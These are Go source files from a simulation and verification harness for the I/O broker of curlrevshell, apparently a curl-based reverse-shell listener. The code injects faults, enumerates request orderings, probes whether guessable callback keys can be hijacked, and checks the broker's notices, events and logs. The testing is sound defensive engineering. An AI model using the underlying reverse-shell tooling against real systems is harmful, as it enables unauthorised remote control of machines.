		w.Enter, w.WriteErr, w.WriteOK = 30, 4, 20
		cfg.MaxAttempts = rng.Range(2, 12)
	case "C03":
		w.ReadData, w.ReadBig, w.ReadErr, w.ReadZero, w.Recv = 30, 5, 5, 3, 16
		cfg.MaxAttempts = rng.Range(2, 12)
	case "C04":
		w.Cancel, w.ReadErr, w.WriteErr, w.ReadBig, w.CloseInput = 6, 5, 4, 4, 1
		cfg.MaxSteps = rng.Range(30, 400)
		cfg.MaxAttempts = rng.Range(4, 120)
	case "C06":
		w.StartIO, w.StartIn, w.StartOut = 16, 4, 4
	case "C11":
		w.Enter, w.ReadData = 16, 16
	}
	// swarm: switch some action kinds off entirely
	if rng.Chance(1, 4) {
		w.Shutdown = 0
	}
	if rng.Chance(1, 2) {
		w.CloseInput = 0
	}
	if rng.Chance(1, 5) {
		w.StartIO = 0
	}
	if rng.Chance(1, 6) {
		w.Cancel = 0
	}
	cfg.W = w

	if prof == "C06" && job.Mode != "selftest" {
		n := idx*int64(job.Workers) + int64(job.Worker)
		if script, desc, ok := enumC06(n); ok {
			cfg.Enum = desc
			cfg.AutoDrain = true
			cfg.OchCap = 1024
			cfg.IchCap = 8
			cfg.Strict = true
			cfg.ParkWrites = 0
			cfg.MaxSteps = len(script) + 6
			cfg.W.Shutdown, cfg.W.CloseInput = 0, 0
			return cfg, script, false
		}
	}
	return cfg, nil, false
}

// EnumC06Total is the number of enumerated C06 cases: every grant order of the
// halves of 2 and 3 simultaneous /io requests, on four base states.
const EnumC06Total = 4 * (24 + 720)

// enumC06 builds enumerated case n: base state b, r requests, the p-th
// permutation of their 2r halves.
func enumC06(n int64) ([]Action, string, bool) {
	if n < 0 || n >= EnumC06Total {
		return nil, "", false
	}
	base := int(n % 4)
	n /= 4
	r, p := 2, int(n)
	if n >= 24 {
		r, p = 3, int(n-24)
	}
	var script []Action
	next := 0
	switch base {
	case 1: // unidirectional input attached
		script = append(script, Action{K: "start_in", B: []byte("k"), S: "flusher"}, Action{K: "grant", A: 0, D: dirIn, S: "admit"})
		next = 1
	case 2, 3: // unidirectional shell fully attached; 3: then being torn down
		script = append(script, Action{K: "start_in", B: []byte("k"), S: "flusher"}, Action{K: "grant", A: 0, D: dirIn, S: "admit"},
			Action{K: "start_out", B: []byte("k")}, Action{K: "grant", A: 1, D: dirOut, S: "admit"})
		next = 2
		if base == 3 {
			script = append(script, Action{K: "read_done", A: 1, S: "eof"}, Action{K: "grant", A: 1, D: dirOut, S: "release"})
		}
	}
	var halves []Action
	for i := 0; i < r; i++ {
		script = append(script, Action{K: "start_io", S: "flusher"})
		halves = append(halves, Action{K: "grant", A: next + i, D: dirIn, S: "admit"}, Action{K: "grant", A: next + i, D: dirOut, S: "admit"})
	}
	// p-th permutation (factorial number system)
	rest := append([]Action(nil), halves...)
	fact := 1
	for i := 2; i < len(rest); i++ {
		fact *= i
	}
	q := p
	for len(rest) > 0 {
		i := q / fact
		q %= fact
		script = append(script, rest[i])
		rest = append(rest[:i], rest[i+1:]...)
		if len(rest) > 1 {
			fact /= len(rest)
		} else {
			fact = 1
		}
	}
	// probe: one line in, one token out of every request
	script = append(script, Action{K: "enter", B: []byte("probe")})
	for i := 0; i < r; i++ {
		script = append(script, Action{K: "read_done", A: next + i, B: []byte(fmt.Sprintf("<token of request %d>", next+i))})
	}
	return script, fmt.Sprintf("base=%d requests=%d order=%d", base, r, p), true
}

func (s *sim) pickID() []byte { return []byte(s.cfg.IDs[s.rng.Intn(len(s.cfg.IDs))]) }

func (s *sim) genLine() []byte {
	r := s.rng
	n := len(s.entered)
	switch r.Pick([]int{50, 8, 4, 10, 14, 6}) {
	case 0:
		return []byte(fmt.Sprintf("line-%d", n))
	case 1:
		return nil
	case 2:
		s.probes["line_64k"]++
		return append([]byte(fmt.Sprintf("big-%d:", n)), r.Bytes(65536, []byte("abcdefgh\n "))...)
	case 3:
		s.probes["line_multiline"]++
		return []byte(fmt.Sprintf("f%d() {\n echo a\n}\n\nx=%d", n, n))
	case 4:
		s.probes["line_arbitrary_bytes"]++
		return append([]byte(fmt.Sprintf("b%d:", n)), r.Bytes(r.Range(1, 40), nil)...)
	}
	return []byte(fmt.Sprintf("q%d \"quoted\" \\ %%s%%d \x00\xff\xfe", n))
}

func (s *sim) genData(at *attempt, n int) []byte {
	r := s.rng
	at.chunks++
	tok := []byte(fmt.Sprintf("<o%d.%d>", at.id, at.chunks))
	var b []byte
	for len(b) < n {
		b = append(b, tok...)
		if r.Chance(1, 3) {
			b = append(b, r.Bytes(r.Range(1, 24), nil)...)
		} else if r.Chance(1, 3) {
			b = append(b, "\r\n\"q\"\\\x1b[31m"...)
		}
	}
	return b[:n]
}

// generate picks the next action among the enabled ones.
func (s *sim) generate() (Action, bool) {
	r := s.rng
	W := s.cfg.W
	var cands []Action
	var ws []int
	add := func(a Action, w int) {
		if w > 0 && s.precond(a) == nil {
			cands = append(cands, a)
			ws = append(ws, w)
		}
	}
	wk := func() (string, bool, int) {
		k := s.cfg.WriterKinds[r.Intn(len(s.cfg.WriterKinds))]
		park := r.Intn(100) < s.cfg.ParkWrites
		failAt := 0
		if !park && r.Chance(1, 6) {
			failAt = r.Range(1, 8)
		}
		return k, park, failAt
	}
	if len(s.atts) < s.cfg.MaxAttempts {
		k, p, f := wk()
		add(Action{K: "start_in", B: s.pickID(), S: k, P: p, N: f}, W.StartIn)
		add(Action{K: "start_out", B: s.pickID()}, W.StartOut)
		k, p, f = wk()
		add(Action{K: "start_io", S: k, P: p, N: f}, W.StartIO)
		if s.cfg.Burst {
			k, p, f = wk()
			add(Action{K: "burst_io", S: k, P: p, N: f, C: r.Range(2, 4)}, (W.StartIO+1)/2)
		}
		// a per-request key of an /io request that is short enough to be guessed
		// is a callback ID a remote client can present: let one try it (and the
		// one a counter would give next)
		for _, id := range s.guessableKeys() {
			add(Action{K: "start_out", B: []byte(id)}, 6)
			k, p, f = wk()
			add(Action{K: "start_in", B: []byte(id), S: k, P: p, N: f}, 6)
		}
	}
	if s.cfg.LazyListener {
		add(Action{K: "drain_events"}, 3)
	}
	if s.cfg.LateClose {
		for _, at := range s.atts {
			if at.returned && !at.closedTrans && !at.closeDue {
				add(Action{K: "close_trans", A: at.id}, 4)
			}
		}
	}
	s.mu.Lock()
	parks := append([]*park(nil), s.parks...)
	shut := s.shutPark != nil
	s.mu.Unlock()
	for _, p := range parks {
		add(Action{K: "grant", A: p.h.att.id, D: p.h.dir, S: p.site}, W.Grant)
	}
	if shut {
		add(Action{K: "grant", S: "shutdown"}, W.Grant)
	}
	add(Action{K: "enter", B: s.genLine()}, W.Enter)
	add(Action{K: "close_input"}, W.CloseInput)
	if len(s.och) > 0 || cap(s.och) == 0 {
		add(Action{K: "recv"}, W.Recv)
	}
	for _, at := range s.atts {
		if at.r != nil && at.r.parked != nil && !at.r.closed && at.out.attachedR && !at.returned {
			add(Action{K: "read_done", A: at.id, B: s.genData(at, r.Range(1, max(1, s.cfg.ReadMax)))}, W.ReadData)
			add(Action{K: "read_done", A: at.id, B: s.genData(at, r.Range(2049, 20000))}, W.ReadBig)
			e := s.cfg.ReadErrs[r.Intn(len(s.cfg.ReadErrs))]
			var d []byte
			if r.Chance(1, 2) {
				d = s.genData(at, r.Range(1, max(1, s.cfg.ReadMax)))
			}
			add(Action{K: "read_done", A: at.id, B: d, S: e}, W.ReadErr)
			add(Action{K: "read_done", A: at.id, N: 1}, W.ReadZero)
			if W.ReadZero > 0 {
				// many empty reads in a row, and over the life of one stream
				add(Action{K: "read_done", A: at.id, N: r.Range(20, 150)}, 1)
			}
		}
		if at.w != nil && at.w.parked != nil {
			if at.w.parked.kind == "W" {
				add(Action{K: "write_done", A: at.id}, W.WriteOK)
				add(Action{K: "write_done", A: at.id, S: []string{"err", "short"}[r.Intn(2)]}, W.WriteErr)
			} else {
				add(Action{K: "flush_done", A: at.id}, W.WriteOK)
				add(Action{K: "flush_done", A: at.id, S: "err"}, W.WriteErr)
			}
		}
		if !at.returned && !at.cancelled {
			add(Action{K: "cancel", A: at.id}, W.Cancel)
		}
	}
	add(Action{K: "shutdown"}, W.Shutdown)
	i := r.Pick(ws)
	if i < 0 {
		return Action{}, false
	}
	return cands[i], true
}

// guessableKeys: per-request keys the hooks have shown for /io requests that
// are shorter than 12 bytes (a random key that cannot be guessed is longer),
// and for those that end in a decimal number the key with the next number.
func (s *sim) guessableKeys() []string {
	seen := map[string]bool{}
	var out []string
	add := func(k string) {
		if !seen[k] {
			seen[k] = true
			out = append(out, k)
		}
	}
	for _, at := range s.atts {
		if at.kind != "io" {
			continue
		}
		for _, h := range at.halves() {
			k := h.key
			if k == "" || len(k) >= 12 {
				continue
			}
			add(k)
			i := len(k)
			for i > 0 && k[i-1] >= '0' && k[i-1] <= '9' {
				i--
			}
			if i < len(k) && len(k)-i < 9 {
				var n int
				fmt.Sscanf(k[i:], "%d", &n)
				add(fmt.Sprintf("%s%d", k[:i], n+1))
			}
		}
	}
	if len(out) > 0 {
		s.probes["guessable_io_key_seen"]++
	}
	return out
}
