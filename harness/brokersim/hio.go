package brokersim

import (
	"bytes"
	"errors"
	"io"
	"sync"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// errBoom is the "foreign" transport error.
var errBoom = errors.New("boom: injected transport error")

func errByName(n string) error {
	switch n {
	case "":
		return nil
	case "eof":
		return io.EOF
	case "ueof":
		return io.ErrUnexpectedEOF
	case "closedpipe":
		return io.ErrClosedPipe
	case "boom", "err", "short":
		return errBoom
	}
	return errBoom
}

// normalEnd reports whether a read error counts as an ordinary end of stream
// (the statement of C03/C04 lists them: EOF, unexpected EOF, closed pipe).
func normalEnd(n string) bool { return n == "eof" || n == "ueof" || n == "closedpipe" }

// wop is one operation a writer saw.
type wop struct {
	kind  string // W | F
	data  []byte
	n     int
	err   error
	done  bool
	ch    chan wres // non-nil while parked
	step  int
	after bool // arrived after the transport was closed
}

type wres struct {
	n   int
	err error
}

// simWriter is the transport writer of an input stream.
type simWriter struct {
	s      *sim
	att    *attempt
	kind   string // plain | flusher | flusherr | both
	parkOn bool
	failAt int // inline: the failAt-th operation (1-based) fails
	ops    []*wop
	parked *wop
	closed bool
	failed bool // an operation has returned an error

	// FIFO-model cursor (oracle side)
	cur       int
	errSeen   bool
	needFlush bool
	lineBuf   []byte
	lines     []int  // indexes of the entered lines this stream was sent
	lineOK    []bool // ... and whether write and flush succeeded
	lastLine  int
}

func (w *simWriter) op(kind string, p []byte) (int, error) {
	s := w.s
	gid := simkit.GoID()
	s.mu.Lock()
	s.tag[gid] = w.att
	o := &wop{kind: kind, data: append([]byte(nil), p...), step: s.step}
	w.ops = append(w.ops, o)
	if w.closed {
		o.after, o.done, o.err = true, true, io.ErrClosedPipe
		s.mu.Unlock()
		return 0, o.err
	}
	if w.parkOn {
		o.ch = make(chan wres, 1)
		w.parked = o
		s.mu.Unlock()
		r := <-o.ch
		s.mu.Lock()
		o.n, o.err, o.done = r.n, r.err, true
		if r.err != nil {
			w.failed = true
			w.ownError()
		}
		s.mu.Unlock()
		return r.n, r.err
	}
	o.done = true
	if w.failAt > 0 && len(w.ops) == w.failAt && kind == "F" && w.kind == "flusher" {
		w.failAt++ // Flush() cannot report an error: fail the next write instead
	}
	if w.failAt > 0 && len(w.ops) == w.failAt {
		o.err = errBoom
		if kind == "W" {
			o.n = len(p) / 2
		}
		w.failed = true
		w.ownError()
		s.faults["write_err_inline"]++
	} else if kind == "W" {
		o.n = len(p)
	}
	n, err := o.n, o.err
	s.mu.Unlock()
	return n, err
}

// ownError: the transport has just failed an operation of this input stream
// (every writer kind that can be failed reports the error to its caller), so
// the stream has to end by itself now.  Called with s.mu held.
func (w *simWriter) ownError() {
	if h := w.att.in; h != nil && h.attachedR && !h.proxyEnded && !w.after() {
		if _, ok := w.s.mustEnd[h]; !ok {
			w.s.mustEnd[h] = w.s.step
		}
	}
}

func (w *simWriter) after() bool { return w.closed }

// complete finishes the parked operation.
func (w *simWriter) complete(errKind string) {
	o := w.parked
	w.parked = nil
	r := wres{}
	switch errKind {
	case "":
		r.n = len(o.data)
	case "short":
		r.n, r.err = len(o.data)/2, errBoom
	default:
		r.err = errByName(errKind)
	}
	o.ch <- r
}

func (w *simWriter) closeNow() {
	w.closed = true
	if w.parked != nil {
		o := w.parked
		w.parked = nil
		o.after = true
		o.ch <- wres{0, io.ErrClosedPipe}
	}
}

// The four writer kinds differ in the optional interfaces they offer.
type plainW struct{ *simWriter }

func (w plainW) Write(p []byte) (int, error) { return w.op("W", p) }

type flusherW struct{ *simWriter }

func (w flusherW) Write(p []byte) (int, error) { return w.op("W", p) }
func (w flusherW) Flush()                      { w.op("F", nil) }

type flushErrW struct{ *simWriter }

func (w flushErrW) Write(p []byte) (int, error) { return w.op("W", p) }
func (w flushErrW) FlushError() error           { _, err := w.op("F", nil); return err }

type bothW struct{ *simWriter }

func (w bothW) Write(p []byte) (int, error) { return w.op("W", p) }
func (w bothW) Flush()                      { w.op("F", nil) }
func (w bothW) FlushError() error           { _, err := w.op("F", nil); return err }

func (w *simWriter) iface() io.Writer {
	switch w.kind {
	case "flusher":
		return flusherW{w}
	case "flusherr":
		return flushErrW{w}
	case "both":
		return bothW{w}
	}
	return plainW{w}
}

func (w *simWriter) flushable() bool { return w.kind != "plain" }

// simReader is the transport reader of an output stream.
type simReader struct {
	s       *sim
	att     *attempt
	pending []byte // data the simulator has released but Read has not yet returned
	pendErr error  // terminal error to deliver after pending
	hasErr  bool
	errKind string
	ended   bool // terminal error has been returned
	closed  bool
	parked  chan struct{}
	reads   int    // number of Read calls
	ret     []byte // every byte Read has returned, in order
	retLog  []int  // sizes
	retStep []int
	zero    int    // so many of the next reads return (0, nil)
	buf     []byte // the caller's buffer while a Read is parked (a Reader may use all of it as scratch space during the call)
}

func (r *simReader) Read(p []byte) (int, error) {
	s := r.s
	gid := simkit.GoID()
	s.mu.Lock()
	r.reads++
	s.tag[gid] = r.att
	s.mu.Unlock()
	for {
		s.mu.Lock()
		if r.closed {
			s.mu.Unlock()
			return 0, io.ErrClosedPipe
		}
		if r.zero > 0 {
			r.zero--
			s.mu.Unlock()
			return 0, nil
		}
		if len(r.pending) > 0 {
			n := copy(p, r.pending)
			r.pending = r.pending[n:]
			r.ret = append(r.ret, p[:n]...)
			r.retLog = append(r.retLog, n)
			r.retStep = append(r.retStep, s.step)
			// io.Reader allows a Read to use all of p as scratch space while
			// the call lasts: this call does (beyond n), and so does every
			// other Read that is parked right now
			scribble(p[n:])
			for _, o := range s.atts {
				if o.r != nil && o.r != r && o.r.parked != nil && o.r.buf != nil {
					scribble(o.r.buf)
					s.probes["parked_read_buffer_scribbled"]++
					if len(p) > 0 && len(o.r.buf) > 0 && &p[0] == &o.r.buf[0] {
						s.probes["two_reads_in_flight_on_one_buffer"]++
					}
				}
			}
			var err error
			if len(r.pending) == 0 && r.hasErr {
				err = r.pendErr
				r.hasErr = false
				r.ended = true
			}
			s.mu.Unlock()
			return n, err
		}
		if r.hasErr {
			err := r.pendErr
			r.hasErr = false
			r.ended = true
			s.mu.Unlock()
			return 0, err
		}
		if r.ended {
			s.mu.Unlock()
			return 0, io.ErrClosedPipe
		}
		ch := make(chan struct{})
		r.parked = ch
		r.buf = p
		s.mu.Unlock()
		<-ch
		s.mu.Lock()
		r.buf = nil
		s.mu.Unlock()
	}
}

func scribble(p []byte) {
	const mark = "~SCRATCH~"
	for i := range p {
		p[i] = mark[i%len(mark)]
	}
}

// release hands data and/or a terminal error to the reader.
func (r *simReader) release(data []byte, errKind string, zero int) {
	r.pending = append(r.pending, data...)
	if errKind != "" {
		r.pendErr, r.hasErr, r.errKind = errByName(errKind), true, errKind
	}
	r.zero += zero
	if r.parked != nil {
		close(r.parked)
		r.parked = nil
	}
}

func (r *simReader) closeNow() {
	r.closed = true
	if r.parked != nil {
		close(r.parked)
		r.parked = nil
	}
}

// feeder plays the operator's side of ich: it offers the entered lines one by
// one, blocking like the real line reader does.
type feeder struct {
	s       *sim
	ich     chan string
	wake    chan struct{}
	stop    chan struct{}
	queue   [][]byte
	sent    int
	closeIt bool
	closed  bool
	gid     int64
}

func (f *feeder) run(gid func() int64) {
	f.s.mu.Lock()
	f.gid = gid()
	f.s.ownGIDs[f.gid] = true
	f.s.mu.Unlock()
	for {
		f.s.mu.Lock()
		var next []byte
		have := false
		if f.sent < len(f.queue) {
			next, have = f.queue[f.sent], true
		}
		cl := f.closeIt && !have
		f.s.mu.Unlock()
		if have {
			select {
			case f.ich <- string(next):
			case <-f.stop:
				return
			}
			f.s.mu.Lock()
			f.sent++
			f.s.mu.Unlock()
			continue
		}
		if cl {
			close(f.ich)
			f.s.mu.Lock()
			f.closed = true
			f.s.mu.Unlock()
			return
		}
		select {
		case <-f.wake:
		case <-f.stop:
			return
		}
	}
}

// lockedBuf is the in-memory log file.
type lockedBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuf) snapshot() []byte {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]byte(nil), l.b.Bytes()...)
}
