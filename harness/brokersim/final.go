package brokersim

import (
	"fmt"
	"strings"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
)

// drainAction is the next step of the closing phase: the simulator stops
// injecting faults (terminal reads everything, writes complete) and only lets
// things finish.  It is a function of the state alone.
func (s *sim) drainAction() (Action, bool, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, at := range s.atts {
		if at.w != nil && at.w.parked != nil {
			k := "write_done"
			if at.w.parked.kind == "F" {
				k = "flush_done"
			}
			return Action{K: k, A: at.id}, true, false
		}
	}
	if s.busy != nil && s.busy.logPark != nil {
		return Action{K: "grant", A: s.busy.att.id, D: s.busy.dir, S: "log"}, true, false
	}
	if s.busy == nil {
		for _, p := range s.parks {
			if p.site != "log" {
				return Action{K: "grant", A: p.h.att.id, D: p.h.dir, S: p.site}, true, false
			}
		}
		if s.shutPark != nil {
			return Action{K: "grant", S: "shutdown"}, true, false
		}
	}
	allRet := true
	for _, at := range s.atts {
		if !at.returned {
			allRet = false
			if !at.cancelled && s.busy == nil {
				return Action{K: "cancel", A: at.id}, true, true
			}
		}
	}
	if allRet && !s.shutdown {
		return Action{K: "shutdown"}, true, true
	}
	if allRet && s.doRet {
		return Action{}, false, false
	}
	return Action{}, false, false
}

func (s *sim) drain() {
	if len(s.found) > 0 {
		return
	}
	s.draining = true
	s.drainStartStep = s.step
	s.settle()
	s.check(Action{K: "drain"})
	s.flushObs("{drain begins}")
	sinceStimulus := 0
	for i := 0; i < 5000 && len(s.found) == 0 && s.harnessErr == ""; i++ {
		a, ok, stimulus := s.drainAction()
		if !ok {
			break
		}
		s.step++
		if stimulus {
			sinceStimulus = 0
		} else {
			sinceStimulus++
		}
		if err := s.precondDrain(a); err != nil {
			s.harnessErr = fmt.Sprintf("drain action %s not enabled: %v", a, err)
			return
		}
		s.apply(a)
		s.settle()
		s.check(a)
		s.flushObs("drain " + a.String())
	}
	if len(s.found) > 0 || s.harnessErr != "" {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	// bounded liveness: with no faults flowing, everything has come to an end
	for _, at := range s.atts {
		if !at.returned {
			where := ""
			for _, h := range at.halves() {
				where += fmt.Sprintf(" %s@%s", h.name(), h.site)
			}
			s.violate("C04", "liveness", "caller never returns after faults stop",
				"attempt %d (%s) has not returned although its context is cancelled, the terminal is being read and nothing is held back (%s, busy=%s)", at.id, at.kind, where, hname(s.busy))
			return
		}
	}
	if !s.doRet {
		s.violate("C04", "liveness", "Broker.Do never returns after shutdown",
			"every stream has ended and the broker's context is cancelled, but Broker.Do has not returned")
		return
	}
	s.finalChecks()
	s.flushObs("{final checks}")
}

func (s *sim) precondDrain(a Action) error {
	strict := s.cfg.Strict
	s.cfg.Strict = false
	defer func() { s.cfg.Strict = strict }()
	return s.precond(a)
}

func jsonish(b string) string { return string([]rune(b)) }

// finalChecks runs over the recorded history once everything has ended.
func (s *sim) finalChecks() {
	s.checkOutput(true)
	s.checkNotices()
	s.checkEvents()
	s.checkLog()
	s.checkLeak()
}

// checkNotices: C04's announcement rules and C01's "the operator is told".
func (s *sim) checkNotices() {
	gens := s.m.gens
	readyN := make([]int, len(gens))
	goneN := make([]int, len(gens))
	closures := map[*half]int{}
	redsIO := map[string]int{} // by remote address: several /io clients may share one
	refusalSeen := map[*attempt]int{}
	open := 0 // first generation whose gone notice has not been seen
	for _, r := range s.recv {
		if r.att == nil {
			continue
		}
		at := r.att
		switch r.class {
		case "ready":
			found := false
			for gi, g := range gens {
				if g.ready && g.readyBy != nil && g.readyBy.att.addr == at.addr && readyN[gi] == 0 {
					readyN[gi]++
					found = true
					break
				}
			}
			if !found {
				s.violate("C04", "ready-iff-attached", "ready notice without a fully attached shell",
					"a ready notice from attempt %d was displayed (item %d) but no shell became fully attached through it (or it was announced twice)", at.id, r.idx)
				return
			}
		case "gone":
			if open >= len(gens) || gens[open].endedBy == nil || gens[open].endedBy.att.addr != at.addr {
				s.violate("C04", "gone-once", "unexpected 'shell is gone' notice",
					"a gone notice from attempt %d was displayed (item %d) that does not close the current shell (shell #%d)", at.id, r.idx, open)
				return
			}
			goneN[open]++
			open++
		case "red":
			if at.kind == "io" {
				redsIO[at.addr]++
				continue
			}
			h := at.halves()[0]
			if h.judged && !h.admitted {
				refusalSeen[at]++
				continue
			}
			closures[h]++
			if h.gen < open {
				s.violate("C04", "closure-before-gone", "closure notice after the gone notice",
					"the closure notice of stream %s (item %d) came after the gone notice of its shell", h.name(), r.idx)
				return
			}
		}
	}
	for gi, g := range gens {
		if !g.ended {
			continue
		}
		if goneN[gi] != 1 {
			s.violate("C04", "gone-once", fmt.Sprintf("shell announced gone %d times", goneN[gi]),
				"shell #%d (halves %s) ended at step %d but its gone notice was displayed %d times", gi, hnames(g.halves), g.endStep, goneN[gi])
			return
		}
		want := 0
		if g.ready {
			want = 1
		}
		if readyN[gi] != want {
			s.violate("C04", "ready-iff-attached", "ready notice count wrong",
				"shell #%d (halves %s, fully attached=%v) had %d ready notices", gi, hnames(g.halves), g.ready, readyN[gi])
			return
		}
		for _, h := range g.halves {
			if h.att.kind != "io" && closures[h] != 1 {
				s.violate("C04", "closure-once", fmt.Sprintf("stream closure announced %d times", closures[h]),
					"stream %s was admitted and has ended, but %d closure notices for it were displayed", h.name(), closures[h])
				return
			}
		}
	}
	ioDone := map[string]bool{}
	for _, at := range s.atts {
		refused, silent, admitted := 0, 0, 0
		group := []*attempt{at}
		if at.kind == "io" {
			if ioDone[at.addr] {
				continue
			}
			ioDone[at.addr] = true
			group = nil
			for _, o := range s.atts {
				if o.kind == "io" && o.addr == at.addr {
					group = append(group, o)
				}
			}
		}
		for _, ga := range group {
			for _, h := range ga.halves() {
				if h.judged && !h.admitted {
					if h.expect == "silent" {
						silent++
					} else {
						refused++
					}
				} else if h.judged {
					admitted++
				}
			}
		}
		if at.kind == "io" {
			if redsIO[at.addr] < refused {
				s.violate("C01", "refusal-told", "operator not told about a refused attempt",
					"%d halves of /io attempts from %s were refused outside shutdown but only %d notices about them were displayed", refused, at.addr, redsIO[at.addr])
				return
			}
			if redsIO[at.addr] > refused+silent+admitted {
				s.violate("C04", "closure-once", "more closure notices than halves",
					"/io attempts from %s: %d red notices for %d halves", at.addr, redsIO[at.addr], refused+silent+admitted)
				return
			}
			continue
		}
		if refused > 0 && refusalSeen[at] < 1 {
			s.violate("C01", "refusal-told", "operator not told about a refused attempt",
				"attempt %d (%s, id %q) was refused outside shutdown but no notice about it was displayed", at.id, at.kind, at.idKey)
			return
		}
	}
}

func hnames(hs []*half) string {
	var n []string
	for _, h := range hs {
		n = append(n, h.name())
	}
	return strings.Join(n, ",")
}

// checkEvents: listeners see connected exactly when a shell becomes fully
// attached and exactly one disconnected per shell.
func (s *sim) checkEvents() {
	var want []iobroker.EventType
	mustHave := 0
	for _, g := range s.m.gens {
		if g.ready {
			want = append(want, iobroker.EventTypeConnected)
			if g.readyStep > 0 && (s.shutdownStep == 0 || g.readyStep < s.shutdownStep) {
				mustHave = len(want)
			}
		}
		if g.ended {
			want = append(want, iobroker.EventTypeDisconnected)
			if g.endStep > 0 && (s.shutdownStep == 0 || g.endStep < s.shutdownStep) {
				mustHave = len(want)
			}
		}
	}
	for i, got := range s.events {
		mustHave := mustHave
		if s.cfg.LazyListener && s.shutdownStep > 0 && (s.drainStartStep == 0 || s.shutdownStep <= s.drainStartStep) {
			// a listener that was behind when the shutdown came is owed only
			// what had happened when it was last read; and while one listener
			// is behind, the others wait with it (events go out in turn)
			mustHave = s.owedBy(s.lazyReadStep)
		}
		bad := len(got) > len(want) || len(got) < mustHave
		for j := 0; !bad && j < len(got); j++ {
			bad = got[j] != want[j]
		}
		if bad {
			s.violate("C04", "events", "listener event sequence differs from the shells' lives",
				"listener %d received %v; the shells' lives give %v (the first %d are owed even with shutdown)", i, got, want, mustHave)
			return
		}
	}
}

// owedBy counts the events of shells' lives up to and including step n.
func (s *sim) owedBy(n int) int {
	k, owed := 0, 0
	for _, g := range s.m.gens {
		if g.ready {
			k++
			if g.readyStep > 0 && g.readyStep <= n {
				owed = k
			}
		}
		if g.ended {
			k++
			if g.endStep > 0 && g.endStep <= n {
				owed = k
			}
		}
	}
	return owed
}

// checkLog: the JSON log as a transcript (C11).
func (s *sim) checkLog() {
	type key struct {
		att int
		dir string
	}
	by := map[key][]logRec{}
	byAtt := map[int][]logRec{}
	for _, r := range s.logs {
		by[key{r.Att, r.Dir}] = append(by[key{r.Att, r.Dir}], r)
		byAtt[r.Att] = append(byAtt[r.Att], r)
	}
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if !h.judged {
				continue
			}
			recs := by[key{at.id, h.dir}]
			if !h.admitted {
				var all []logRec
				if at.kind == "io" {
					all = recs
				} else {
					all = byAtt[at.id]
				}
				if h.expect == "silent" {
					if len(all) != 0 {
						s.violate("C11", "refusal-record", "record for an attempt refused during shutdown",
							"attempt %s was turned away during shutdown yet has %d log records", h.name(), len(all))
						return
					}
					continue
				}
				ok := len(all) == 1 && all[0].Level == "ERROR"
				if ok {
					ok = false
					for _, r := range h.reasons {
						if all[0].Msg == r {
							ok = true
						}
					}
				}
				if !ok {
					s.violate("C11", "refusal-record", "refused attempt lacks its one error record naming the reason",
						"attempt %s was refused (applicable reasons %v) but its log records are %s", h.name(), h.reasons, recsString(all))
					return
				}
				continue
			}
			// admitted: connect, I/O..., disconnect
			if len(recs) < 2 || recs[0].Msg != iobroker.LMNewConnection || recs[len(recs)-1].Msg != iobroker.LMDisconnected {
				s.violate("C11", "connect-disconnect", "admitted stream lacks connect/disconnect records around its I/O",
					"stream %s was admitted and has ended; its log records are %s", h.name(), recsString(recs))
				return
			}
			var data []string
			for _, r := range recs[1 : len(recs)-1] {
				if r.Msg != iobroker.LMShellIO || r.Data == nil {
					s.violate("C11", "connect-disconnect", "unexpected record between connect and disconnect",
						"stream %s: record %q between its connect and disconnect records", h.name(), r.Msg)
					return
				}
				data = append(data, *r.Data)
			}
			var want []string
			if h.dir == dirIn {
				for i, li := range at.w.lines {
					if at.w.lineOK[i] {
						want = append(want, jsonish(string(s.entered[li])+"\n"))
					}
				}
			} else {
				_, chunks, _ := s.plainOf(h)
				for _, c := range chunks {
					want = append(want, jsonish(c))
				}
			}
			if !eqStrings(data, want) {
				s.violate("C11", "io-transcript", "Shell I/O records differ from what was delivered",
					"stream %s: %d Shell I/O records %s, delivered %d items %s", h.name(), len(data), clipStrings(data), len(want), clipStrings(want))
				return
			}
			last := recs[len(recs)-1]
			hasErr := last.Err != nil
			mustErr, mustNot := false, false
			if h.dir == dirIn {
				mustErr = at.w.errSeen
				mustNot = !at.w.errSeen && !at.w.failed
			} else {
				foreign := at.r.errKind != "" && !normalEnd(at.r.errKind)
				mustErr = foreign && at.r.ended && !h.cancelCause
				mustNot = !foreign
			}
			if mustErr && !hasErr || mustNot && hasErr {
				s.violate("C11", "disconnect-error", "disconnect record's error attribute does not match how the stream ended",
					"stream %s: disconnect record has error=%v, but the stream's own transport error=%v", h.name(), hasErr, mustErr)
				return
			}
		}
	}
}

func recsString(rs []logRec) string {
	var p []string
	for _, r := range rs {
		p = append(p, fmt.Sprintf("{%s %q dir=%s}", r.Level, r.Msg, r.Dir))
	}
	return "[" + strings.Join(p, " ") + "]"
}

func clipStrings(ss []string) string {
	var p []string
	for i, x := range ss {
		if i >= 6 {
			p = append(p, "...")
			break
		}
		if len(x) > 40 {
			x = x[:40] + "..."
		}
		p = append(p, fmt.Sprintf("%q", x))
	}
	return "[" + strings.Join(p, " ") + "]"
}

func eqStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
