package brokersim

import (
	"errors"
	"fmt"
	"sort"
	"testing/synctest"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// next returns the next action: from the script if there is one, else chosen
// by the PRNG among the enabled ones.
func (s *sim) next() (Action, bool) {
	for s.scriptPos < len(s.script) {
		a := s.script[s.scriptPos]
		s.scriptPos++
		if s.freeTail && s.precond(a) != nil {
			continue // enumerated probe step that does not apply in this order
		}
		return a, true
	}
	if s.replay && !s.freeTail {
		return Action{}, false
	}
	return s.generate()
}

// ---- state predicates ---------------------------------------------------

func (s *sim) liveIn() *half {
	for _, a := range s.atts {
		if a.in != nil && a.in.attachedR && !a.in.released {
			return a.in
		}
	}
	return nil
}

func (s *sim) liveOut() *half {
	for _, a := range s.atts {
		if a.out != nil && a.out.attachedR && !a.out.released {
			return a.out
		}
	}
	return nil
}

